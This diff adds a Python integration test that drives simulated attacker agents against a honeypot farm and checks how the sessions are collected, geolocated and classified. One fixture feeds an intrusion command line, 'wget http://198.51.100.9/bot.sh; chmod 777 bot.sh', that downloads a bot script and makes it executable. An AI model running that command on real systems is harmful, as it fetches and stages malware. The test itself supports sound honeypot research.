@@ -1,0 +1,140 @@
+"""End-to-end integration: attacker agents drive real honeypots through the
+discrete-event engine, the collector stores records, and the analyses run.
+
+This exercises the *interactive* generation path — the full honeypot state
+machine, event emission, geolocation stamping and classification — on a
+small simulated farm.
+"""
+
+import numpy as np
+import pytest
+
+from repro.agents.credentials import CredentialDictionary
+from repro.core.classify import Category, category_shares, classify_store
+from repro.core.tables import table1_categories
+from repro.farm.collector import FarmCollector
+from repro.farm.deployment import build_default_deployment
+from repro.geo.registry import GeoRegistry, NetworkType
+from repro.net.tcp import SSH_PORT, TELNET_PORT, TcpModel
+from repro.simulation.engine import SimulationEngine
+from repro.simulation.rng import RngStream
+
+
+@pytest.fixture(scope="module")
+def live_store():
+    """Drive a small live farm and return the collected store."""
+    registry = GeoRegistry()
+    plan = build_default_deployment(registry=registry)
+    collector = FarmCollector(registry=registry)
+    pots = plan.build_honeypots(summary_sink=collector.on_summary)[:20]
+
+    rng = RngStream(77, "live")
+    creds = CredentialDictionary(rng.child("creds"))
+    tcp = TcpModel(rng.child("tcp"), loss_probability=0.0)
+    client_as = registry.register_as("CN", NetworkType.RESIDENTIAL)
+    pool = client_as.pool()
+    engine = SimulationEngine()
+
+    def launch_scan(client_ip, pot, port, at):
+        def action():
+            handshake = tcp.handshake()
+            session = pot.accept(client_ip, 40000, port,
+                                 engine.clock.seconds + handshake.elapsed)
+            engine.schedule(rng.uniform(1, 20), lambda: (
+                session.client_disconnect(engine.clock.seconds)
+                if not session.is_closed else None
+            ))
+        engine.schedule_at(at, action)
+
+    def launch_scout(client_ip, pot, at):
+        def action():
+            session = pot.accept(client_ip, 41000, SSH_PORT, engine.clock.seconds)
+            delay = 1.0
+            for username, password in creds.attempt_sequence(3, end_success=False):
+                when = engine.clock.seconds + delay
+                engine.schedule(delay, lambda u=username, p=password, s=session: (
+                    s.try_login(u, p, engine.clock.seconds)
+                    if not s.is_closed else None
+                ))
+                delay += rng.uniform(1, 4)
+        engine.schedule_at(at, action)
+
+    def launch_intrusion(client_ip, pot, at, lines):
+        def action():
+            session = pot.accept(client_ip, 42000, SSH_PORT, engine.clock.seconds)
+            session.try_login("root", creds.successful_password(),
+                              engine.clock.seconds + 1.0)
+            delay = 2.0
+            for line in lines:
+                engine.schedule(delay, lambda l=line, s=session: (
+                    s.input_line(l, engine.clock.seconds)
+                    if not s.is_closed else None
+                ))
+                delay += 2.0
+            engine.schedule(delay + 1.0, lambda s=session: (
+                s.client_disconnect(engine.clock.seconds)
+                if not s.is_closed else None
+            ))
+        engine.schedule_at(at, action)
+
+    clients = [pool.sample(rng) for _ in range(30)]
+    at = 1.0
+    for i, client_ip in enumerate(clients):
+        pot = pots[i % len(pots)]
+        if i % 3 == 0:
+            launch_scan(client_ip, pot, TELNET_PORT if i % 2 else SSH_PORT, at)
+        elif i % 3 == 1:
+            launch_scout(client_ip, pot, at)
+        else:
+            launch_intrusion(client_ip, pot, at, [
+                "uname -a; free -m",
+                "wget http://198.51.100.9/bot.sh; chmod 777 bot.sh",
+            ])
+        at += rng.uniform(5, 30)
+
+    engine.run(until=5_000.0)
+    for pot in pots:
+        pot.reap(100_000.0)  # time out anything still open
+    return collector.build_store()
+
+
+class TestLiveFarm:
+    def test_all_sessions_collected(self, live_store):
+        assert len(live_store) == 30
+
+    def test_all_categories_produced(self, live_store):
+        shares = category_shares(live_store)
+        assert shares[Category.NO_CRED] > 0
+        assert shares[Category.FAIL_LOG] > 0
+        assert shares[Category.CMD_URI] > 0
+
+    def test_geo_stamping(self, live_store):
+        assert all(live_store.record(i).client_country == "CN"
+                   for i in range(len(live_store)))
+
+    def test_scout_sessions_record_credentials(self, live_store):
+        codes = classify_store(live_store)
+        fail_sessions = np.nonzero(codes == 1)[0]
+        assert len(fail_sessions)
+        for i in fail_sessions:
+            record = live_store.record(int(i))
+            assert record.n_login_attempts >= 1
+            assert not record.login_success
+
+    def test_intrusions_carry_hashes_and_uris(self, live_store):
+        codes = classify_store(live_store)
+        uri_sessions = np.nonzero(codes == 4)[0]
+        assert len(uri_sessions)
+        for i in uri_sessions:
+            record = live_store.record(int(i))
+            assert record.uris
+            assert record.file_hashes
+            assert record.login_success
+
+    def test_durations_realistic(self, live_store):
+        assert (live_store.duration > 0).all()
+        assert live_store.duration.max() < 4_000
+
+    def test_table1_runs_on_live_data(self, live_store):
+        t1 = table1_categories(live_store)
+        assert sum(t1.overall.values()) == pytest.approx(1.0)
